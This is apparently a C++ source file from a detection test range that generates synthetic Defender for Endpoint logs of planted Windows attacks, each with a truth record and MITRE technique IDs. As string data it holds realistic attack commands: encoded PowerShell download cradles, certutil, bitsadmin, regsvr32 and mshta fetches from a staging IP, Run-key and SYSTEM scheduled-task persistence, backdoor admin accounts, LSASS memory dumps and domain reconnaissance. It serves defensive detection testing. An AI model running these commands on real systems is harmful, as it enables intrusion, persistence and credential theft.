// Planted endpoint attacks: execution, persistence, privilege and credential abuse, discovery,
// lateral movement and ransomware, as Defender for Endpoint records them.
#include <fmt/core.h>

#include "common/time.h"
#include "range/scenario.h"

namespace quarry::range {
namespace {

bool AnyWindows(const Host& h) { return h.windows() && h.role != HostRole::kDomainController; }


// The interactive user of `host` (its owner, else a domain user), their explorer.exe.
Proc UserDesktop(ScenarioContext& c, const Host& host, int64_t t) {
  Proc explorer = c.dev.Resident(host, "explorer.exe", DayStart(t));
  const User& u = host.primary_user >= 0 ? c.world.users[host.primary_user] : c.PickUser(true);
  explorer.account = DomainAccount(c.world, u);
  c.AddUser(u.account);
  c.AddUser(u.upn);
  return explorer;
}

std::string StagingIp(ScenarioContext& c) {
  std::string ip = HostingIp(c.rng);
  c.AddIp(ip);
  return ip;
}

const char* const kPayloadNames[] = {"update.exe", "svchost32.exe", "msupdate.exe", "OneDriveSync.exe",
                                     "winlogin.exe", "chromeupdate.exe"};

}  // namespace

void PlantEncodedPowerShell(ScenarioContext& c) {
  TruthRecord& r = *c.record;
  const Host& host = c.PickHost({"vm-final-lab-pr", "ws-22", "laptop-frank"}, IsWindowsClient);
  int64_t t = c.PickStart(kTicksPerHour);
  Proc desk = UserDesktop(c, host, t);
  std::string ip = StagingIp(c);
  static const char* const kParents[][2] = {
      {R"(C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE)", R"("WINWORD.EXE" /n "C:\Users\%U%\Downloads\Invoice_%N%.docm")"},
      {R"(C:\Program Files\Microsoft Office\root\Office16\EXCEL.EXE)", R"("EXCEL.EXE" "C:\Users\%U%\Downloads\Payment_Details_%N%.xlsm")"},
      {R"(C:\Windows\System32\cmd.exe)", R"("C:\Windows\system32\cmd.exe" /c C:\Users\%U%\Downloads\setup_%N%.bat)"}};
  const auto& par = kParents[c.rng.Below(std::size(kParents))];
  std::string pcmd = par[1];
  pcmd.replace(pcmd.find("%U%"), 3, desk.account.name);
  pcmd.replace(pcmd.find("%N%"), 3, std::to_string(c.rng.Between(1000, 9999)));
  Proc parent = c.dev.Spawn(desk, par[0], pcmd, t, c.tag);
  static const char* const kCradles[] = {
      "IEX (New-Object Net.WebClient).DownloadString('http://{}/{}')",
      "$w=New-Object System.Net.WebClient;$w.Headers.Add('User-Agent','Mozilla/5.0');IEX $w.DownloadString('http://{}/{}')",
      "IEX (iwr -UseBasicParsing 'http://{}/{}').Content",
      "[Net.ServicePointManager]::SecurityProtocol='Tls12';IEX(New-Object Net.WebClient).DownloadString('https://{}/{}')"};
  static const char* const kScripts[] = {"a.ps1", "stage2.ps1", "news.txt", "update.ps1", "js/jquery.min.js"};
  const char* script_name = kScripts[c.rng.Below(std::size(kScripts))];
  const char* cradle = kCradles[c.rng.Below(std::size(kCradles))];
  std::string script = fmt::format(fmt::runtime(cradle), ip, script_name);
  static const char* const kFlags[] = {"-nop -w hidden -enc", "-NoProfile -WindowStyle Hidden -EncodedCommand",
                                       "-noP -sta -w 1 -enc", "-ExecutionPolicy Bypass -e"};
  std::string cmd = fmt::format("powershell.exe {} {}", kFlags[c.rng.Below(std::size(kFlags))], EncodePowerShell(script));
  Proc ps = c.dev.Spawn(parent, R"(C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe)", cmd, t + Seconds(c.rng, 1, 4), c.tag);
  c.dev.Network(ps, ps.created + Seconds(c.rng, 1, 3), "ConnectionSuccess", ip, script.find("https") != std::string::npos ? 443 : 80,
                "", "Tcp", c.tag);
  r.name = "Encoded PowerShell download cradle on " + host.name + " launched by " + parent.file_name;
  r.techniques = {"T1059.001", "T1027", "T1105"};
  r.description = "An Office document or batch file starts hidden PowerShell with a base64 "
                  "-EncodedCommand that downloads and runs a script from the internet.";
  c.AddHost(host.name);
  c.AddProcess("powershell.exe");
  c.AddProcess(parent.file_name);
}

void PlantCertutilDownload(ScenarioContext& c) {
  TruthRecord& r = *c.record;
  const Host& host = c.PickHost({"windows-target-1", "web-01", "ws-30"}, AnyWindows);
  int64_t t = c.PickStart(kTicksPerHour);
  Proc desk = UserDesktop(c, host, t);
  std::string ip = StagingIp(c);
  std::string payload = kPayloadNames[c.rng.Below(std::size(kPayloadNames))];
  static const char* const kDirs[] = {R"(C:\Users\Public)", R"(C:\ProgramData)", R"(C:\Windows\Temp)"};
  std::string dir = kDirs[c.rng.Below(std::size(kDirs))];
  std::string url = fmt::format("http://{}/{}", ip, c.rng.Chance(0.5) ? "files/" + payload : "p.txt");
  Proc cmd = c.dev.Spawn(desk, R"(C:\Windows\System32\cmd.exe)", R"("C:\Windows\system32\cmd.exe")", t, c.tag);
  bool use_certutil = c.rng.Chance(0.6);
  Proc tool;
  if (use_certutil) {
    std::string line = c.rng.Chance(0.5)
                           ? fmt::format("certutil.exe -urlcache -split -f {} {}\\{}", url, dir, payload)
                           : fmt::format("certutil -urlcache -f {} {}\\{}", url, dir, payload);
    tool = c.dev.Spawn(cmd, R"(C:\Windows\System32\certutil.exe)", line, t + Seconds(c.rng, 5, 60), c.tag);
  } else {
    std::string line = fmt::format("bitsadmin /transfer {} /download /priority high {} {}\\{}",
                                   c.rng.Chance(0.5) ? "myjob" : "update", url, dir, payload);
    tool = c.dev.Spawn(cmd, R"(C:\Windows\System32\bitsadmin.exe)", line, t + Seconds(c.rng, 5, 60), c.tag);
  }
  c.dev.Network(tool, tool.created + Seconds(c.rng, 1, 2), "ConnectionSuccess", ip, 80, "", "Tcp", c.tag);
  Proc writer = tool;
  if (!use_certutil) writer = c.dev.Resident(host, "netsvcs -p", DayStart(t));  // BITS writes the file
  int64_t size = c.rng.Between(80000, 900000);
  int64_t written = tool.created + Seconds(c.rng, 2, 5);
  Row& f = c.dev.File(writer, written, "FileCreated", dir, payload, size, c.tag);
  f.Set("FileOriginUrl", url).Set("FileOriginIP", ip);
  c.dev.Spawn(cmd, dir + "\\" + payload, dir + "\\" + payload, tool.created + Seconds(c.rng, 20, 90), c.tag);
  r.name = fmt::format("{} downloads {} to {} on {}", use_certutil ? "certutil" : "bitsadmin", payload, dir, host.name);
  r.techniques = use_certutil ? std::vector<std::string>{"T1105", "T1140"} : std::vector<std::string>{"T1105", "T1197"};
  r.description = "A built-in Windows tool is abused to fetch a payload over HTTP, which is then run.";
  c.AddHost(host.name);
  c.AddProcess(use_certutil ? "certutil.exe" : "bitsadmin.exe");
  c.AddProcess(payload);
  c.AddFile(payload);
}

void PlantLolbinProxy(ScenarioContext& c) {
  TruthRecord& r = *c.record;
  const Host& host = c.PickHost({"ws-22", "laptop-frank", "mde-test-cyn"}, IsWindowsClient);
  int64_t t = c.PickStart(kTicksPerHour);
  Proc desk = UserDesktop(c, host, t);
  std::string ip = StagingIp(c);
  int variant = static_cast<int>(c.rng.Below(3));
  Proc p;
  if (variant == 0) {
    std::string dll = fmt::format(R"(C:\Users\{}\AppData\Local\Temp\{}.dll)", desk.account.name, c.rng.Hex(6));
    Proc shell = c.dev.Spawn(desk, R"(C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe)", "\"powershell.exe\"", t, c.tag);
    int64_t started = t + Seconds(c.rng, 10, 120);
    const char* entry = c.rng.Chance(0.5) ? "DllRegisterServer" : "StartW";
    p = c.dev.Spawn(shell, R"(C:\Windows\System32\rundll32.exe)", fmt::format("rundll32.exe {},{}", dll, entry),
                    started, c.tag);
    c.AddFile(std::string(BaseName(dll)));
    r.techniques = {"T1218.011"};
  } else if (variant == 1) {
    p = c.dev.Spawn(desk, R"(C:\Windows\System32\regsvr32.exe)",
                    fmt::format("regsvr32.exe /s /n /u /i:http://{}/{}.sct scrobj.dll", ip, c.rng.Hex(5)), t, c.tag);
    r.techniques = {"T1218.010"};
  } else {
    Proc outlook = c.dev.Spawn(desk, R"(C:\Program Files\Microsoft Office\root\Office16\OUTLOOK.EXE)", "\"OUTLOOK.EXE\"", t, c.tag);
    int64_t started = t + Seconds(c.rng, 5, 60);
    const char* page = c.rng.Chance(0.5) ? "invoice" : "doc";
    p = c.dev.Spawn(outlook, R"(C:\Windows\System32\mshta.exe)",
                    fmt::format("\"C:\\Windows\\System32\\mshta.exe\" http://{}/{}.hta", ip, page), started, c.tag);
    r.techniques = {"T1218.005"};
  }
  c.dev.Network(p, p.created + Seconds(c.rng, 1, 3), "ConnectionSuccess", ip, variant == 0 ? 443 : 80, "", "Tcp", c.tag);
  r.name = fmt::format("Signed binary proxy execution via {} on {}", p.file_name, host.name);
  r.description = "A signed Windows binary (rundll32, regsvr32 or mshta) runs attacker code and "
                  "calls out to the internet.";
  c.AddHost(host.name);
  c.AddProcess(p.file_name);
}

void PlantRunKey(ScenarioContext& c) {
  TruthRecord& r = *c.record;
  const Host& host = c.PickHost({"ws-22", "ws-30", "vm-final-lab-pr"}, IsWindowsClient);
  int64_t t = c.PickStart(kTicksPerHour);
  Proc desk = UserDesktop(c, host, t);
  static const char* const kValueNames[] = {"OneDriveUpdate", "SecurityHealth2", "MicrosoftEdgeAutoLaunch_", "WindowsUpdateCheck"};
  std::string value = kValueNames[c.rng.Below(std::size(kValueNames))];
  std::string payload = fmt::format(R"(C:\Users\{}\AppData\Roaming\{})", desk.account.name,
                                    kPayloadNames[c.rng.Below(std::size(kPayloadNames))]);
  bool hklm = c.rng.Chance(0.4);
  std::string key = hklm ? R"(HKEY_LOCAL_MACHINE\SOFTWARE\Microsoft\Windows\CurrentVersion\Run)"
                         : fmt::format(R"(HKEY_CURRENT_USER\{}\SOFTWARE\Microsoft\Windows\CurrentVersion\Run)", desk.account.sid);
  Proc cmd = c.dev.Spawn(desk, R"(C:\Windows\System32\cmd.exe)", R"("C:\Windows\system32\cmd.exe")", t, c.tag);
  Proc reg = c.dev.SpawnAs(cmd, R"(C:\Windows\System32\reg.exe)",
                           fmt::format(R"(reg add "{}\Software\Microsoft\Windows\CurrentVersion\Run" /v {} /t REG_SZ /d "{}" /f)",
                                       hklm ? "HKLM" : "HKCU", value, payload),
                           desk.account, hklm ? "High" : "Medium", t + Seconds(c.rng, 5, 40), c.tag);
  c.dev.Registry(reg, reg.created + kTicksPerSecond / 5, "RegistryValueSet", key, value, "String", payload, c.tag);
  r.name = "Registry Run key persistence (" + value + ") on " + host.name;
  r.techniques = {"T1547.001", "T1112"};
  r.description = "reg.exe adds an autostart value pointing at a payload in a user-writable folder.";
  c.AddHost(host.name);
  c.AddProcess("reg.exe");
  c.AddFile(std::string(BaseName(payload)));
}

void PlantScheduledTask(ScenarioContext& c) {
  TruthRecord& r = *c.record;
  const Host& host = c.PickHost({"windows-target-1", "web-01"}, AnyWindows);
  int64_t t = c.PickStart(kTicksPerHour);
  Proc desk = UserDesktop(c, host, t);
  static const char* const kTasks[] = {R"(\Microsoft\Windows\Maintenance\WinSvcUpdate)", R"(\GoogleUpdateTaskMachineQA)",
                                       R"(\Microsoft\Windows\Defrag\ScheduledDefragCheck)", R"(\OneDrive Reporting Task)"};
  std::string task = kTasks[c.rng.Below(std::size(kTasks))];
  std::string action = c.rng.Chance(0.5) ? R"(powershell.exe -w hidden -ep bypass -f C:\ProgramData\upd.ps1)"
                                         : R"(C:\Users\Public\Libraries\svcupdate.exe)";
  static const char* const kSchedules[] = {"/sc onlogon", "/sc minute /mo 30", "/sc daily /st 09:00", "/sc onstart"};
  Proc cmd = c.dev.SpawnAs(desk, R"(C:\Windows\System32\cmd.exe)", R"("C:\Windows\system32\cmd.exe")", desk.account, "High", t, c.tag);
  int64_t created = t + Seconds(c.rng, 5, 60);
  const char* schedule = kSchedules[c.rng.Below(std::size(kSchedules))];
  Proc st = c.dev.Spawn(cmd, R"(C:\Windows\System32\schtasks.exe)",
                        fmt::format(R"(schtasks /create /tn "{}" /tr "{}" {} /ru SYSTEM /f)", task, action, schedule),
                        created, c.tag);
  Proc sched = c.dev.Resident(host, "netsvcs -p", DayStart(t));
  c.dev.Registry(sched, st.created + kTicksPerSecond / 2, "RegistryKeyCreated",
                 R"(HKEY_LOCAL_MACHINE\SOFTWARE\Microsoft\Windows NT\CurrentVersion\Schedule\TaskCache\Tree)" + task,
                 "", "", "", c.tag);
  std::string task_file = std::string(BaseName(task));
  c.dev.File(sched, st.created + kTicksPerSecond / 2, "FileCreated",
             R"(C:\Windows\System32\Tasks)" + std::string(DirName(task)), task_file, c.rng.Between(3000, 4200), c.tag);
  r.name = "Scheduled task persistence (" + task + ") on " + host.name;
  r.techniques = {"T1053.005"};
  r.description = "schtasks.exe creates a SYSTEM task that runs a hidden script or a payload from a public folder.";
  c.AddHost(host.name);
  c.AddProcess("schtasks.exe");
  c.AddFile(task_file);
}

void PlantNewLocalAdmin(ScenarioContext& c) {
  TruthRecord& r = *c.record;
  const Host& host = c.PickHost({"mde-test-cyn", "windows-target-1"}, AnyWindows);
  int64_t t = c.PickStart(kTicksPerHour);
  Proc desk = UserDesktop(c, host, t);
  static const char* const kNames[] = {"support_svc", "helpdesk01", "adm1n", "backupadmin", "sqlsvc$"};
  std::string name = kNames[c.rng.Below(std::size(kNames))];
  Proc cmd = c.dev.SpawnAs(desk, R"(C:\Windows\System32\cmd.exe)", R"("C:\Windows\system32\cmd.exe")", desk.account, "High", t, c.tag);
  int64_t t1 = t + Seconds(c.rng, 5, 40);
  Proc net = c.dev.Spawn(cmd, R"(C:\Windows\System32\net.exe)", fmt::format("net user {} P@ssw0rd{}! /add", name, c.rng.Between(10, 99)), t1, c.tag);
  c.dev.Spawn(net, R"(C:\Windows\System32\net1.exe)", fmt::format(" user {} P@ssw0rd! /add", name), t1 + kTicksPerSecond / 10, c.tag);
  int64_t t2 = t1 + Seconds(c.rng, 5, 60);
  std::string group = c.rng.Chance(0.7) ? "administrators" : "\"Remote Desktop Users\"";
  Proc net2 = c.dev.Spawn(cmd, R"(C:\Windows\System32\net.exe)", fmt::format("net localgroup {} {} /add", group, name), t2, c.tag);
  c.dev.Spawn(net2, R"(C:\Windows\System32\net1.exe)", fmt::format(" localgroup {} {} /add", group, name), t2 + kTicksPerSecond / 10, c.tag);
  Proc lsass = c.dev.Resident(host, "lsass.exe", DayStart(t));
  c.dev.Registry(lsass, t1 + kTicksPerSecond / 2, "RegistryKeyCreated",
                 fmt::format(R"(HKEY_LOCAL_MACHINE\SAM\SAM\Domains\Account\Users\Names\{})", name), "", "", "", c.tag);
  r.name = "New local account " + name + " added to " + group + " on " + host.name;
  r.techniques = {"T1136.001", "T1098"};
  r.description = "net.exe creates a local account and adds it to a privileged local group.";
  c.AddHost(host.name);
  c.AddUser(name);
  c.AddProcess("net.exe");
  c.AddProcess("net1.exe");
}

void PlantLsassDump(ScenarioContext& c) {
  TruthRecord& r = *c.record;
  const Host& host = c.PickHost({"windows-target-1", "fileserver-1", "sql-01"}, IsWindowsMemberServer);
  int64_t t = c.PickStart(kTicksPerHour);
  Proc desk = UserDesktop(c, host, t);
  Proc cmd = c.dev.SpawnAs(desk, R"(C:\Windows\System32\cmd.exe)", R"("C:\Windows\system32\cmd.exe")", desk.account, "High", t, c.tag);
  Proc lsass = c.dev.Resident(host, "lsass.exe", DayStart(t));
  std::string dump;
  Proc tool;
  if (c.rng.Chance(0.5)) {
    dump = c.rng.Chance(0.5) ? "lsass.dmp" : "out.dmp";
    tool = c.dev.Spawn(cmd, R"(C:\Users\Public\procdump64.exe)",
                       fmt::format(R"(procdump64.exe -accepteula -ma lsass.exe C:\Windows\Temp\{})", dump),
                       t + Seconds(c.rng, 10, 90), c.tag);
    r.techniques = {"T1003.001"};
  } else {
    dump = c.rng.Chance(0.5) ? "debug.bin" : "mem.dmp";
    tool = c.dev.Spawn(cmd, R"(C:\Windows\System32\rundll32.exe)",
                       fmt::format(R"(rundll32.exe C:\Windows\System32\comsvcs.dll, MiniDump {} C:\Windows\Temp\{} full)", lsass.pid, dump),
                       t + Seconds(c.rng, 10, 90), c.tag);
    r.techniques = {"T1003.001", "T1218.011"};
    c.AddFile("comsvcs.dll");
  }
  int64_t size = c.rng.Between(40'000'000, 90'000'000);
  int64_t written = tool.created + Seconds(c.rng, 1, 4);
  c.dev.File(tool, written, "FileCreated", R"(C:\Windows\Temp)", dump, size, c.tag);
  r.name = "LSASS memory dumped with " + tool.file_name + " on " + host.name;
  r.description = "Credential theft: the memory of lsass.exe is written to a dump file.";
  c.AddHost(host.name);
  c.AddProcess(tool.file_name);
  c.AddProcess("lsass.exe");
  c.AddFile(dump);
}

void PlantDiscoveryBurst(ScenarioContext& c) {
  TruthRecord& r = *c.record;
  const Host& host = c.PickHost({"ws-22", "vm-final-lab-pr", "laptop-frank"}, IsWindowsClient);
  int64_t t = c.PickStart(kTicksPerHour);
  Proc desk = UserDesktop(c, host, t);
  Proc cmd = c.dev.Spawn(desk, R"(C:\Windows\System32\cmd.exe)", R"("C:\Windows\system32\cmd.exe")", t, c.tag);
  struct Cmd { const char* path; const char* line; };
  std::vector<Cmd> cmds = {
      {R"(C:\Windows\System32\whoami.exe)", "whoami /all"},
      {R"(C:\Windows\System32\net.exe)", R"(net group "Domain Admins" /domain)"},
      {R"(C:\Windows\System32\nltest.exe)", "nltest /domain_trusts /all_trusts"},
      {R"(C:\Windows\System32\net.exe)", "net user /domain"},
      {R"(C:\Windows\System32\ipconfig.exe)", "ipconfig /all"},
      {R"(C:\Windows\System32\systeminfo.exe)", "systeminfo"},
      {R"(C:\Windows\System32\nltest.exe)", "nltest /dclist:contoso.com"},
      {R"(C:\Windows\System32\net.exe)", R"(net group "Enterprise Admins" /domain)"},
      {R"(C:\Windows\System32\quser.exe)", "quser"},
      {R"(C:\Windows\System32\net.exe)", "net localgroup administrators"}};
  for (size_t i = cmds.size(); i > 1; --i) std::swap(cmds[i - 1], cmds[c.rng.Below(i)]);
  size_t n = static_cast<size_t>(c.rng.Between(6, static_cast<int64_t>(cmds.size())));
  int64_t ct = t;
  for (size_t i = 0; i < n; ++i) {
    ct += Seconds(c.rng, 2, 15);
    Proc p = c.dev.Spawn(cmd, cmds[i].path, cmds[i].line, ct, c.tag);
    c.AddProcess(p.file_name);
  }
  r.name = fmt::format("Discovery burst: {} reconnaissance commands in {} minutes on {}", n,
                       (ct - t) / kTicksPerMinute + 1, host.name);
  r.techniques = {"T1033", "T1087.002", "T1069.002", "T1482", "T1016"};
  r.description = "whoami, net group, nltest and friends run back to back from one shell.";
  c.AddHost(host.name);
}

}  // namespace quarry::range
